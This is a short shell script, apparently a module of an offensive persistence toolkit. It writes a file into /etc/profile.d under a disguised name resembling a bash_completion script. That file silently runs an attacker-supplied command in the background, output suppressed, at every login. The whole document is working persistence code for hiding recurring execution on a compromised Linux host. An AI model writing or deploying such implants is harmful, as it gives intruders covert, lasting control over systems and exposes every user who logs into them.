#!/bin/sh
# profile-d: a script for every login (bash(1), /etc/profile.d)
. "${0%/*}/lib.sh"
payload
put "/etc/profile.d/$(named lang bash_completion).sh" 644 "$head" \
	"$cmd >/dev/null 2>&1 &"
